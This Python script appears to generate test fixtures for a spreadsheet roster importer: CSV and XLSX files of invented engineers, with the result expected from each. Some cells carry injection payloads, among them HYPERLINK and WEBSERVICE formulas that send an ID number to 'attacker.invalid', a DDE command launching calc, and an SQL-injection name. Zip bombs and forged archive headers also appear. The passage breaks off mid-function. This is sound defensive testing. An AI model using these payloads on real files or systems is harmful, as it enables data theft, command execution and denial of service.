#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 CircuitDesk contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes the files that people and attackers bring as rosters, and what is to come of each.

importfiles.py FOLDER writes them there, with manifest.json: a list of {"file", "expected"}, where expected is either
{"refusal": reason} or {"engineers": [[name, gender, document, number, phone]...], "refused": [[engineer, field,
reason]...]}. Workbooks are put together part by part, because no library writes what these need. The people are
invented; their numbers have right check digits.
"""
import io
import json
import os
import random
import re
import struct
import sys
import zipfile
import zlib

folder = sys.argv[1]
manifest = []


def id_card(seventeen):
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    total = sum(int(digit) * weight for digit, weight in zip(seventeen, weights))
    return seventeen + '10X98765432'[total % 11]


def damaged_check(number):
    return number[:-1] + ('1' if number[-1] != '1' else '2')


LI = ['李雷', 'Male', 'IDCard', id_card('11010119900307201'), '13900000101']
HAN = ['韩梅梅', 'Female', 'IDCard', id_card('31010119920518402'), '13900000102']
SMITH = ['Ann Smith', 'Female', 'Passport', 'E12345678', '+44 20 7946 0101']
PEOPLE = [LI, HAN, SMITH]
ZH = ['姓名', '性别', '证件类型', '证件号码', '手机号']
EN = ['Name', 'Gender', 'ID type', 'ID number', 'Phone']
WORDS = {'zh': {'Male': '男', 'Female': '女', 'IDCard': '身份证', 'Passport': '护照'},
         'en': {'Male': 'Male', 'Female': 'female', 'IDCard': 'ID card', 'Passport': 'Passport'}}
FIELDS = ['PMName', 'PMGender', 'PMCertificateType', 'PMCertificateNo', 'PMContactInfo']


def spoken(person, language):
    return [WORDS[language].get(value, value) for value in person]


def engineer(index):
    return ['工程师' + chr(ord('甲') + index % 7), 'Male', 'IDCard', id_card('11010119900307%03d' % (index % 999 + 1)),
            '1390000%04d' % (index % 10000)]


def expect(name, people=None, refused=(), refusal=None):
    expected = {'refusal': refusal} if refusal else {'engineers': people, 'refused': [list(r) for r in refused]}
    manifest.append({'file': name, 'expected': expected})


def write(name, data):
    with open(os.path.join(folder, name), 'wb') as out:
        out.write(data)


def file(name, data, people=None, refused=(), refusal=None):
    write(name, data)
    expect(name, people, refused, refusal)


# --- CSV ---------------------------------------------------------------------------------------------------------

def quoted(cell, separator):
    return '"%s"' % cell.replace('"', '""') if any(c in cell for c in separator + '"\n\r') else cell


def csv(rows, separator=',', end='\r\n'):
    return ''.join(separator.join(quoted(cell, separator) for cell in row) + end for row in rows)


def text(name, content, people=None, refused=(), refusal=None, encoding='utf-8'):
    file(name, content.encode(encoding), people, refused, refusal)


def encodings():
    marks = {'utf-8': b'', 'utf-8-sig': b'', 'utf-16-le': b'\xff\xfe', 'utf-16-be': b'\xfe\xff', 'gb18030': b'', 'gbk': b''}
    for encoding, mark in marks.items():
        for separator, word in ((',', 'comma'), (';', 'semicolon'), ('\t', 'tab')):
            for language, header in (('zh', ZH), ('en', EN)):
                rows = [header] + [spoken(person, language) for person in PEOPLE]
                file('%s-%s-%s.csv' % (encoding, word, language), mark + csv(rows, separator).encode(encoding), PEOPLE)
    for encoding in ('utf-16-le', 'utf-16-be'):
        file('unmarked-%s.csv' % encoding, csv([ZH] + [spoken(p, 'zh') for p in PEOPLE]).encode(encoding), PEOPLE)
    rare = [['㐀㒨𠮷', 'Male', 'IDCard', LI[3], LI[4]]]
    file('gb18030-rare.csv', csv([ZH] + [spoken(p, 'zh') for p in rare]).encode('gb18030'), rare)
    file('utf-8-rare.csv', csv([ZH] + [spoken(p, 'zh') for p in rare]).encode(), rare)


def orders():
    generator = random.Random(5)
    for number in range(12):
        order = list(range(5))
        generator.shuffle(order)
        language, header = ('zh', ZH) if number % 2 else ('en', EN)
        rows = [[header[i] for i in order]] + [[spoken(p, language)[i] for i in order] for p in PEOPLE]
        text('order-%d.csv' % number, csv(rows), PEOPLE)
        workbook('order-%d.xlsx' % number, sheet_of(rows), PEOPLE)
    headers = [
        ['名字', '性 别', '证件类别', '证件号', '联系方式'], ['姓名*', '性别*', '证件类型*', '证件号码*', '手机号码*'],
        ['姓名（必填）', '性别：', '【证件类型】证件类型', '身份证/护照号', '联系电话'],
        ['施工人员姓名', '性别', '证件种类', '证件编号', '移动电话'],
        ['Full Name', 'SEX', 'Document type', 'Document No.', 'Mobile phone'],
        ['Ｎａｍｅ', 'gender:', 'Certificate type', 'Certificate no', 'Contact'],
        ['Engineer name', 'Gender (M/F)', 'Type of ID', 'ID/Passport No', 'Tel.'],
        ['姓名 Name', '性别 Gender', '证件类型 ID type', '证件号 ID no.', '手机 Mobile'],
        ['PMName', 'PMGender', 'PMCertificateType', 'PMCertificateNo', 'PMContactInfo'],
    ]
    for number, header in enumerate(headers):
        text('header-%d.csv' % number, csv([header] + [spoken(p, 'en') for p in PEOPLE]), PEOPLE)


def shapes():
    zh = [spoken(p, 'zh') for p in PEOPLE]
    text('line-feed.csv', csv([ZH] + zh, end='\n'), PEOPLE)
    text('carriage-return.csv', csv([ZH] + zh, end='\r'), PEOPLE)
    text('no-last-line-end.csv', csv([ZH] + zh)[:-2], PEOPLE)
    text('blank-lines.csv', '\r\n\r\n' + csv([ZH]) + '\r\n,,,,\r\n' + csv(zh) + '\r\n \r\n', PEOPLE)
    text('title-above.csv', csv([['施工人员名单', '', '', '', '']] + [ZH] + zh), PEOPLE)
    text('no-header.csv', csv(zh), PEOPLE)
    text('no-header-other-order.csv', csv([[r[4], r[3], r[0], r[2], r[1]] for r in zh]), PEOPLE)
    text('more-columns.csv', csv([['序号', '公司名称'] + ZH + ['备注']] + [[str(i), 'ACME', *r, 'x']
                                                                        for i, r in enumerate(zh)]), PEOPLE)
    text('all-quoted.csv', ''.join(','.join('"%s"' % c for c in r) + '\n' for r in [ZH] + zh), PEOPLE)
    text('sep-line.csv', 'sep=;\r\n' + csv([ZH] + zh, ';'), PEOPLE)
    text('semicolons-and-commas.csv', csv([EN] + [['Smith, Ann', *SMITH[1:]]], ';'), [['Smith, Ann', *SMITH[1:]]])
    text('quoted-newline.csv', csv([EN, ['Ann\nSmith', *SMITH[1:]]]), [SMITH])
    text('doubled-quotes.csv', csv([EN, ['Ann "Annie" Smith', *SMITH[1:]]]), [['Ann "Annie" Smith', *SMITH[1:]]])
    text('quote-inside.csv', 'Name,Gender,ID type,ID number,Phone\nAnn 5" Smith,F,passport,E12345678,13900000101\n',
         [['Ann 5" Smith', 'Female', 'Passport', 'E12345678', '13900000101']])
    text('short-rows.csv', csv([ZH, ['李雷'], ['韩梅梅', '女']]), [['李雷', '', '', '', ''], ['韩梅梅', 'Female', '', '', '']])
    text('spaces.csv', csv([EN, ['  Ann  Smith ', ' F', '　护照　', '\u00a0E12345678', '+44 20 7946 0101 ']]), [SMITH])
    text('no-document-column.csv', csv([['姓名', '身份证号', '手机'], ['李雷', LI[3], LI[4]]]),
         [['李雷', '', 'IDCard', LI[3], LI[4]]])
    text('passport-column.csv', csv([['姓名', '护照号', '电话'], ['Ann', 'E12345678', '+44 20']]),
         [['Ann', '', 'Passport', 'E12345678', '+44 20']])
    text('emergency-phone.csv', csv([['姓名', '证件号', '紧急联系人电话'], ['李雷', LI[3], '13911111111']]),
         [['李雷', '', 'IDCard', LI[3], '']])
    text('unknown-words.csv', csv([ZH, ['李雷', '未知', '军官证', '军字第1号', '010-1']]), [['李雷', '未知', '军官证', '军字第1号', '010-1']])
    text('header-only.csv', csv([ZH]), [])
    text('wrong-check-digit.csv', csv([ZH, [*spoken(LI, 'zh')[:3], damaged_check(LI[3]), LI[4]]]),
         [[*LI[:3], damaged_check(LI[3]), LI[4]]])
    for count in (16, 17, 40, 999):
        people = [engineer(i) for i in range(count)]
        text('people-%d.csv' % count, csv([ZH] + [spoken(p, 'zh') for p in people]), people)
    text('people-1001.csv', csv([spoken(engineer(i), 'zh') for i in range(1001)]), refusal='TooManyRows')
    text('people-20000.csv', csv([[str(i), '男'] for i in range(100_000)]), refusal='TooManyRows')
    text('people-100000.csv', csv([spoken(engineer(i), 'zh') for i in range(100_000)]), refusal='TooLarge')
    text('columns-65.csv', csv([ZH + ['x'] * 60]), refusal='TooManyColumns')
    text('columns-64.csv', csv([ZH + ['x'] * 59, spoken(LI, 'zh') + ['y'] * 59]), [LI])
    text('no-separator.csv', '李雷\n韩梅梅\n', [['李雷', '', '', '', ''], ['韩梅梅', '', '', '', '']])


def cells_in_text():
    def one(name, column, value, taken=None, reason=None):
        row = spoken(LI, 'zh')
        row[column] = value
        person = list(LI)
        person[column] = taken if reason is None else ''
        text('cell-%s.csv' % name, csv([ZH, row]), [person], [[0, FIELDS[column], reason]] if reason else [])
    for number, value in enumerate(['3.3E+17', '3.30106E+17', '3,30106E+17', '1.10101e17', '1E+17', '1.1 E+17', '３.３Ｅ＋１７']):
        one('exponent-%d' % number, 3, value, reason='Scientific')
    for number, value in enumerate(['1.39E+10', '1.39E10', '13.9E+09']):
        one('phone-exponent-%d' % number, 4, value, reason='Scientific')
    one('rounded-3', 3, '330106199001010000', reason='Rounded')
    one('rounded-2', 3, damaged_check(LI[3])[:16] + '00', reason='Rounded')
    one('decimal-id', 3, '330106199001011264.0', reason='Rounded')
    one('decimal-phone', 4, '13900000101.0', taken='13900000101')
    one('zeros-that-are-right', 3, next(n for n in (id_card('11010119900307%d0' % i) for i in range(10, 99)) if n.endswith('00')),
        taken=next(n for n in (id_card('11010119900307%d0' % i) for i in range(10, 99)) if n.endswith('00')))
    one('leading-zero', 4, '010-86001234', taken='010-86001234')
    one('plus', 4, '+8613900000101', taken='+8613900000101')
    one('apostrophe', 3, "'" + LI[3], taken=LI[3])
    one('text-formula', 3, '="%s"' % LI[3], taken=LI[3])
    one('tab', 3, '\t' + LI[3], taken=LI[3])
    one('formula', 0, '=1+1', reason='Formula')
    one('link', 0, '=HYPERLINK("http://attacker.invalid/?"&D2,"李雷")', reason='Formula')
    one('dde', 0, "=cmd|' /C calc'!A0", reason='Formula')
    one('not-available', 4, '#N/A', reason='ErrorValue')
    one('reference', 0, '#REF!', reason='ErrorValue')
    one('name-error', 1, '#NAME?', reason='ErrorValue')
    one('hashes', 3, '##########', reason='ErrorValue')
    one('long', 0, '李' * 201, reason='TooLong')
    one('very-long', 0, 'x' * 1_000_000, reason='TooLong')
    one('longest', 0, '李' * 200, taken='李' * 200)
    one('emoji', 0, '李雷😀', taken='李雷😀')
    one('right-to-left', 0, '\u202eلي', taken='\u202eلي')
    one('combining', 0, 'e\u0301a\u0308', taken='e\u0301a\u0308')
    one('wide-digits', 4, '１３９００００0101', taken='１３９００００0101')
    one('sql', 0, "Robert'); DROP TABLE engineers;--", taken="Robert'); DROP TABLE engineers;--")
    one('old-id', 3, '110101900307201', taken='110101900307201')


# --- XLSX --------------------------------------------------------------------------------------------------------

MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
PACKAGE = 'http://schemas.openxmlformats.org/package/2006/relationships'
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def escaped(value):
    return value.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;').replace('"', '&quot;')


def letters(column):
    name = ''
    column += 1
    while column:
        column, rest = divmod(column - 1, 26)
        name = chr(65 + rest) + name
    return name


def inline(value):
    return lambda ref: '<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, escaped(value))


def raw(attributes, inside):
    return lambda ref: '<c r="%s" %s>%s</c>' % (ref, attributes, inside)


def number(value, style=0):
    return raw('s="%d"' % style, '<v>%s</v>' % value)


def sheet_of(rows, after='', before=''):
    out = []
    for r, row in enumerate(rows):
        cells = ''.join((cell if callable(cell) else inline(cell))(letters(c) + str(r + 1))
                        for c, cell in enumerate(row) if cell != '')
        out.append('<row r="%d">%s</row>' % (r + 1, cells))
    return '<worksheet xmlns="%s">%s<sheetData>%s</sheetData>%s</worksheet>' % (MAIN, before, ''.join(out), after)


def shared(strings):
    return '<sst xmlns="%s">%s</sst>' % (MAIN, ''.join('<si>%s</si>' % s for s in strings))


STYLES = ('<styleSheet xmlns="%s"><numFmts count="5"><numFmt numFmtId="164" formatCode="00000000000"/>'
          '<numFmt numFmtId="165" formatCode="yyyy/m/d"/><numFmt numFmtId="166" formatCode="[Red]&quot;hmd&quot;0"/>'
          '<numFmt numFmtId="167" formatCode="0_ "/><numFmt numFmtId="168" formatCode="h:mm"/></numFmts>'
          '<cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="164"/>'
          '<xf numFmtId="165"/><xf numFmtId="166"/><xf numFmtId="14"/><xf numFmtId="1"/><xf numFmtId="49"/>'
          '<xf numFmtId="167"/><xf numFmtId="31"/><xf numFmtId="168"/></cellXfs></styleSheet>') % MAIN
TYPES = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
         'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
         'ContentType="application/xml"/></Types>')


def relations(entries):
    return '<Relationships xmlns="%s">%s</Relationships>' % (PACKAGE, ''.join(
        '<Relationship Id="%s" Type="%s/%s" Target="%s"/>' % (i, RELATIONS, kind, target) for i, kind, target in entries))


def parts_of(*sheets, strings=None, styles=STYLES, states=(), names=('Roster', '第二', 'Third')):
    entries = [('rId%d' % (i + 1), 'worksheet', 'worksheets/sheet%d.xml' % (i + 1)) for i in range(len(sheets))]
    tags = ''.join('<sheet name="%s" sheetId="%d" r:id="rId%d"%s/>' % (
        names[i], i + 1, i + 1, ' state="%s"' % states[i] if i < len(states) and states[i] else '')
        for i in range(len(sheets)))
    parts = {
        '[Content_Types].xml': TYPES,
        '_rels/.rels': relations([('rId1', 'officeDocument', 'xl/workbook.xml')]),
        'xl/workbook.xml': '<workbook xmlns="%s" xmlns:r="%s"><sheets>%s</sheets></workbook>' % (MAIN, RELATIONS, tags),
    }
    for i, sheet in enumerate(sheets):
        parts['xl/worksheets/sheet%d.xml' % (i + 1)] = sheet
    if strings is not None:
        parts['xl/sharedStrings.xml'] = strings
        entries.append(('rId90', 'sharedStrings', 'sharedStrings.xml'))
    if styles is not None:
        parts['xl/styles.xml'] = styles
        entries.append(('rId91', 'styles', 'styles.xml'))
    parts['xl/_rels/workbook.xml.rels'] = relations(entries)
    return parts


def packed(parts, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', method) as archive:
        for name, content in parts.items():
            data = content if isinstance(content, bytes) else (DECLARATION + content).encode()
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def workbook(name, *sheets, people=None, refused=(), refusal=None, **options):
    sheets = list(sheets)
    if sheets and isinstance(sheets[-1], list):
        people = sheets.pop()
    file(name, packed(parts_of(*sheets, **options)), people, refused, refusal)


def workbooks():
    rows = [ZH] + [spoken(p, 'zh') for p in PEOPLE]
    workbook('xlsx-inline.xlsx', sheet_of(rows), PEOPLE)
    file('xlsx-stored.xlsx', packed(parts_of(sheet_of(rows)), zipfile.ZIP_STORED), PEOPLE)
    file('xlsx-named-csv.csv', packed(parts_of(sheet_of(rows))), PEOPLE)
    text('csv-named-xlsx.xlsx', csv(rows), PEOPLE)
    strings = [cell for row in rows for cell in row]
    by_index = [[raw('t="s"', '<v>%d</v>' % (r * 5 + c)) for c in range(5)] for r in range(4)]
    workbook('xlsx-shared.xlsx', sheet_of(by_index), PEOPLE, strings=shared(['<t>%s</t>' % s for s in strings]))
    workbook('xlsx-rich.xlsx', sheet_of(by_index), PEOPLE, strings=shared(
        ['<r><rPr><b/></rPr><t>%s</t></r><r><t xml:space="preserve">%s</t></r>' % (s[:1], s[1:]) for s in strings]))
    workbook('xlsx-phonetic.xlsx', sheet_of(by_index), PEOPLE, strings=shared(
        ['<t>%s</t><rPh sb="0" eb="1"><t>ピン</t></rPh><phoneticPr fontId="1"/>' % s for s in strings]))
    workbook('xlsx-str.xlsx', sheet_of([[raw('t="str"', '<v>%s</v>' % c) for c in row] for row in rows]), PEOPLE)
    workbook('xlsx-no-styles.xlsx', sheet_of(rows), PEOPLE, styles=None)
    workbook('xlsx-two-sheets.xlsx', sheet_of(rows), sheet_of([ZH, spoken(LI, 'zh')]), PEOPLE)
    workbook('xlsx-first-empty.xlsx', sheet_of([]), sheet_of(rows), PEOPLE)
    workbook('xlsx-first-hidden.xlsx', sheet_of([['secret']]), sheet_of(rows), PEOPLE, states=('hidden',))
    workbook('xlsx-very-hidden.xlsx', sheet_of([['secret']]), sheet_of(rows), PEOPLE, states=('veryHidden',))
    workbook('xlsx-all-hidden.xlsx', sheet_of(rows), states=('hidden',), refusal='Empty')
    workbook('xlsx-no-cells.xlsx', sheet_of([]), refusal='Empty')
    workbook('xlsx-styled-blanks.xlsx', sheet_of([[raw('s="1"', '')] * 30] * 50), refusal='Empty')
    workbook('xlsx-header-only.xlsx', sheet_of([ZH]), [])
    workbook('xlsx-title.xlsx', sheet_of([['施工人员名单']] + rows, '<mergeCells><mergeCell ref="A1:E1"/></mergeCells>'), PEOPLE)
    no_refs = sheet_of(rows).replace('<row r="', '<row x="')
    workbook('xlsx-no-references.xlsx', re.sub(r'<c r="\w+" ', '<c ', no_refs), PEOPLE)
    prefixed = re.sub(r'<(/?)(\w)', r'<\1x:\2', sheet_of(rows)).replace('xmlns=', 'xmlns:x=')
    workbook('xlsx-prefixed.xlsx', prefixed, PEOPLE)
    strict = parts_of(sheet_of(rows))
    strict = {name: part.replace(MAIN, 'http://purl.oclc.org/ooxml/spreadsheetml/main').replace(
        RELATIONS, 'http://purl.oclc.org/ooxml/officeDocument/relationships') for name, part in strict.items()}
    file('xlsx-strict.xlsx', packed(strict), PEOPLE)
    absolute = parts_of(sheet_of(rows))
    absolute['xl/_rels/workbook.xml.rels'] = relations([('rId1', 'worksheet', '/xl/worksheets/sheet1.xml')])
    file('xlsx-absolute.xlsx', packed(absolute), PEOPLE)
    file('xlsx-upper-case.xlsx', packed({name.upper() if 'sheet1' in name else name: part
                                         for name, part in parts_of(sheet_of(rows)).items()}), PEOPLE)
    utf16 = parts_of(sheet_of(rows))
    utf16['xl/worksheets/sheet1.xml'] = ('<?xml version="1.0" encoding="UTF-16"?>' + sheet_of(rows)).encode('utf-16')
    file('xlsx-utf-16.xlsx', packed(utf16), PEOPLE)
    sparse = sheet_of(rows).replace('<row r="4">', '<row r="400">').replace('4" t=', '400" t=')
    workbook('xlsx-far-row.xlsx', sparse, PEOPLE)
    far = sheet_of(rows).replace('</row>', '<c r="XFD1" s="1"/></row>', 1)
    workbook('xlsx-far-blank.xlsx', far, PEOPLE)
    workbook('xlsx-far-cell.xlsx', sheet_of(rows).replace('</row>', '<c r="XFD1"><v>1</v></c></row>', 1), refusal='TooManyColumns')
    workbook('xlsx-last-row.xlsx', sheet_of(rows).replace('</sheetData>', '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'),
             refusal='TooManyRows')
    workbook('xlsx-entities.xlsx', sheet_of([ZH, [raw('t="inlineStr"', '<is><t>A &amp; B &#x674E;<![CDATA[<x>]]></t></is>'),
                                                  *spoken(LI, 'zh')[1:]]]), [['A & B 李<x>', *LI[1:]]])
    workbook('xlsx-escapes.xlsx', sheet_of([ZH, ['李_x000D__x000A_雷', *spoken(LI, 'zh')[1:]]]), [['李 雷', *LI[1:]]])
    for count in (17, 1000):
        people = [engineer(i) for i in range(count)]
        workbook('xlsx-people-%d.xlsx' % count, sheet_of([spoken(p, 'zh') for p in people]), people)
    workbook('xlsx-people-1001.xlsx', sheet_of([spoken(engineer(i), 'zh') for i in range(1001)]), refusal='TooManyRows')
    cell = ''.join('<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 100_001))
    workbook('xlsx-people-100000.xlsx', '<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (MAIN, cell), refusal='TooManyRows')


def cells_in_workbooks():
    def one(name, column, cell, taken=None, reason=None, **options):
        row = spoken(LI, 'zh')
        row[column] = cell
        person = list(LI)
        person[column] = taken if reason is None else ''
        workbook('xcell-%s.xlsx' % name, sheet_of([ZH, row]), people=[person],
                 refused=[[0, FIELDS[column], reason]] if reason else [], **options)
    one('number-18', 3, number(LI[3][:17] + '0'), reason='Rounded')
    one('number-18-exponent', 3, number('3.3010619900101126E+17'), reason='Rounded')
    one('number-18-zeros', 3, number('330106199001010000'), reason='Rounded')
    one('number-16', 3, number('1234567890123456'), reason='Rounded')
    one('number-15', 3, number('110101900307201'), taken='110101900307201')
    one('number-15-exponent', 3, number('1.10101900307201E14'), taken='110101900307201')
    one('phone-number', 4, number('13900000101'), taken='13900000101')
    one('phone-exponent', 4, number('1.3900000101E10'), taken='13900000101')
    one('phone-short-exponent', 4, number('1.39E10'), taken='13900000000')
    one('phone-decimal', 4, number('13900000101.0'), taken='13900000101')
    one('phone-zeros', 4, number('1086001234', 1), taken='01086001234')
    one('phone-integer-format', 4, number('13900000101', 5), taken='13900000101')
    one('phone-padded-format', 4, number('13900000101', 7), taken='13900000101')
    one('phone-literal-format', 4, number('13900000101', 3), taken='13900000101')
    one('phone-no-such-style', 4, number('13900000101', 999), taken='13900000101')
    one('date', 4, number('45231', 2), reason='Date')
    one('built-in-date', 4, number('45231', 4), reason='Date')
    one('chinese-date', 4, number('45231', 8), reason='Date')
    one('time', 0, number('0.5', 9), reason='Date')
    one('iso-date', 4, raw('t="d"', '<v>2026-01-01</v>'), reason='Date')
    one('text-exponent', 3, inline('3.3E+17'), reason='Scientific')
    one('error', 4, raw('t="e"', '<v>#N/A</v>'), reason='ErrorValue')
    one('boolean', 0, raw('t="b"', '<v>1</v>'), taken='TRUE')
    one('formula-text', 0, raw('t="str"', '<f>A9&amp;B9</f><v>王五</v>'), taken='王五')
    one('formula-empty-text', 0, raw('t="str"', '<f>IF(A9="","",A9)</f><v></v>'), taken='')
    one('formula-no-value', 0, raw('', '<f>A9</f>'), reason='Formula')
    one('formula-text-no-value', 0, raw('t="str"', '<f>A9</f>'), reason='Formula')
    one('formula-number', 4, raw('', '<f>A9+1</f><v>13900000101</v>'), reason='Formula')
    one('formula-error', 4, raw('t="e"', '<f>1/0</f><v>#DIV/0!</v>'), reason='ErrorValue')
    one('formula-dde', 0, raw('', "<f>cmd|' /C calc'!A0</f>"), reason='Formula')
    one('formula-web', 0, raw('', '<f>WEBSERVICE("http://attacker.invalid/"&amp;D2)</f><v>1</v>'), reason='Formula')
    one('shared-formula', 0, raw('t="str"', '<f t="shared" si="0"/><v>王五</v>'), taken='王五')
    one('text-starting-formula', 0, inline('=1+1'), reason='Formula')
    one('long', 0, inline('x' * 32767), reason='TooLong')
    merged = sheet_of([ZH, spoken(LI, 'zh'), ['韩梅梅', '', '身份证', HAN[3], HAN[4]]],
                      '<mergeCells><mergeCell ref="B2:B3"/></mergeCells>')
    workbook('xlsx-merged.xlsx', merged, people=[LI, ['韩梅梅', '', 'IDCard', HAN[3], HAN[4]]], refused=[[1, 'PMGender', 'Merged']])
    hidden_value = sheet_of([ZH, spoken(LI, 'zh'), ['韩梅梅', '男', '身份证', HAN[3], HAN[4]]],
                            '<mergeCells><mergeCell ref="B2:B3"/></mergeCells>')
    workbook('xlsx-merged-over-a-value.xlsx', hidden_value, people=[LI, ['韩梅梅', '', 'IDCard', HAN[3], HAN[4]]],
             refused=[[1, 'PMGender', 'Merged']])
    workbook('xlsx-merged-rows.xlsx', sheet_of([ZH, spoken(LI, 'zh'), [], spoken(HAN, 'zh')],
                                               '<mergeCells><mergeCell ref="A2:E3"/></mergeCells>'),
             people=[['李雷', '', '', '', ''], HAN], refused=[[0, f, 'Merged'] for f in FIELDS[1:]])


# --- What is no roster, or attacks its reader --------------------------------------------------------------------

def other_formats():
    ole = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 504
    file('old.xls', ole + 'Workbook'.encode('utf-16-le') + b'\0' * 512, refusal='OldWorkbook')
    file('password.xlsx', ole + 'EncryptedPackage'.encode('utf-16-le') + b'\0' * 512, refusal='Encrypted')
    file('roster.ods', packed({'mimetype': b'application/vnd.oasis.opendocument.spreadsheet',
                               'content.xml': '<office/>'}), refusal='OtherFormat')
    file('letter.docx', packed({'_rels/.rels': relations([('rId1', 'officeDocument', 'word/document.xml')]),
                                'word/document.xml': '<w/>'}), refusal='OtherFormat')
    file('binary.xlsb', packed({'_rels/.rels': relations([('rId1', 'officeDocument', 'xl/workbook.bin')]),
                                'xl/workbook.bin': b'\x83\x01'}), refusal='OtherFormat')
    file('any.zip', packed({'a.txt': b'a'}), refusal='OtherFormat')
    file('empty.zip', b'PK\x05\x06' + b'\0' * 18, refusal='OtherFormat')
    file('report.pdf', b'%PDF-1.7\nsome text\n', refusal='OtherFormat')
    file('page.xls', '<html><table><tr><td>李雷</td></tr></table></html>'.encode(), refusal='OtherFormat')
    file('xml-2003.xls', b'<?xml version="1.0"?><Workbook/>', refusal='OtherFormat')
    file('letter.rtf', b'{\\rtf1 hello}', refusal='OtherFormat')
    file('picture.csv', b'\x89PNG\r\n\x1a\n\0\0\0\rIHDR' + bytes(range(256)), refusal='NotText')
    file('packed.csv.gz', b'\x1f\x8b\x08\0' + zlib.compress(b'a,b'), refusal='NotText')
    generator = random.Random(7)
    file('noise.csv', bytes(generator.randrange(256) for _ in range(5000)), refusal='NotText')
    file('nothing.csv', b'', refusal='Empty')
    file('only-a-mark.csv', b'\xef\xbb\xbf', refusal='Empty')
    file('only-space.csv', b' \r\n\t\r\n , ,\r\n', refusal='Empty')
    file('latin-1.csv', 'Name,Phone\nJosé,13900000101\n'.encode('latin-1'), refusal='NotText')
    file('broken-utf-8.csv', b'\xef\xbb\xbfName,Phone\nLi\xff\xfe,139\n', refusal='NotText')
    file('lone-surrogate-utf-8.csv', b'Name,Phone\nLi\xed\xa0\x80,139\n', refusal='NotText')
    file('lone-surrogate-utf-16.csv', b'\xff\xfe' + 'Name,Phone\nLi'.encode('utf-16-le') + b'\x00\xd8' + ',1\n'.encode('utf-16-le'),
         refusal='NotText')
    file('odd-utf-16.csv', 'Name,Phone\nLi,1\n'.encode('utf-16') + b'x', refusal='NotText')
    file('null.csv', b'Name,Phone\nLi\0Lei,13900000101\n', refusal='NotText')
    file('large.csv', b'a,b\n' * 600_000, refusal='TooLarge')
    file('line-ends.csv', b'\n' * 2_000_000, refusal='TooManyRows')
    file('quotes.csv', b'"' * 2_000_001, [['', '', '', '', '']], [[0, 'PMName', 'TooLong']])
    file('separators.csv', b',' * 2_000_000, refusal='TooManyColumns')
    os.mkdir(os.path.join(folder, 'folder.csv'))
    expect('folder.csv', refusal='NotAFile')
    expect('missing.csv', refusal='NotAFile')
    os.mkfifo(os.path.join(folder, 'pipe.csv'))
    expect('pipe.csv', refusal='NotAFile')
    os.symlink('/dev/zero', os.path.join(folder, 'device.csv'))
    expect('device.csv', refusal='NotAFile')
    with open(os.path.join(folder, 'sparse.csv'), 'wb') as out:
        out.truncate(1 << 40)
    expect('sparse.csv', refusal='TooLarge')


def central(data, part, offset, value, size=4, local=None):
    """The archive with a field of the part's central header changed, and of its local one at \\a local."""
    data = bytearray(data)
    name = part.encode()
    at = data.find(b'PK\x01\x02')
    while data[at + 46:at + 46 + len(name)] != name:
        at = data.find(b'PK\x01\x02', at + 1)
    data[at + offset:at + offset + size] = value.to_bytes(size, 'little')
    if local is not None:
        start = struct.unpack_from('<I', data, at + 42)[0]
        data[start + local:start + local + size] = value.to_bytes(size, 'little')
    return bytes(data)


def attacks():
    rows = [ZH] + [spoken(p, 'zh') for p in PEOPLE]
    good = packed(parts_of(sheet_of(rows)))
    part = 'xl/worksheets/sheet1.xml'

    def with_part(name, content):
        parts = parts_of(sheet_of(rows))
        parts[name] = content
        return packed(parts)

    bomb = sheet_of(rows).encode()[:-40] + b' ' * (40 * 1024 * 1024)
    file('bomb-declared.xlsx', with_part(part, bomb), refusal='TooLarge')
    file('bomb-said-to-be-small.xlsx', central(with_part(part, bomb), part, 24, 100, local=22), refusal='TooLarge')
    # All parts are counted together.
    half = b'<x>' + b' ' * (20 * 1024 * 1024) + b'</x>'
    parts = parts_of(sheet_of(rows), strings='')
    parts['xl/sharedStrings.xml'] = parts['xl/styles.xml'] = half
    file('bomb-in-two-parts.xlsx', packed(parts), refusal='TooLarge')
    nested = packed({'inner.xlsx': packed({'a': b'\0' * 10_000_000})})
    file('bomb-nested.xlsx', with_part('xl/embeddings/nested.xlsx', nested), PEOPLE)
    file('bomb-strings.xlsx', packed(parts_of(sheet_of(rows), strings=shared(['<t/>'] * 2_000_000))), refusal='TooLarge')
    file('said-to-be-4-gib.xlsx', central(good, part, 24, 0xfffffff0), refusal='TooLarge')
    file('said-to-be-longer.xlsx', central(good, part, 24, 1_000_000), PEOPLE)
    file('wrong-checksum.xlsx', central(good, part, 16, 12345), refusal='Damaged')
    file('wrong-packed-size.xlsx', central(good, part, 20, 0x7fffff00), PEOPLE)
    file('wrong-offset.xlsx', central(good, part, 42, 0x7ffffff0), refusal='Damaged')
    file('wrong-method.xlsx', central(good, part, 10, 97, 2), refusal='Damaged')
    file('encrypted-part.xlsx', central(central(good, part, 8, 1, 2, local=6), 'xl/workbook.xml', 8, 1, 2, local=6), refusal='Encrypted')
    for index, length in enumerate((30, len(good) // 4, len(good) // 2, len(good) - 100, len(good) - 10, len(good) - 1)):
        file('truncated-%d.xlsx' % index, good[:length], refusal='Damaged')
    file('trailing-garbage.xlsx', good + b'garbage', PEOPLE)

    def xml(name, content, **expected):
        file('xml-%s.xlsx' % name, with_part(part, content), **expected)

    body = sheet_of(rows)
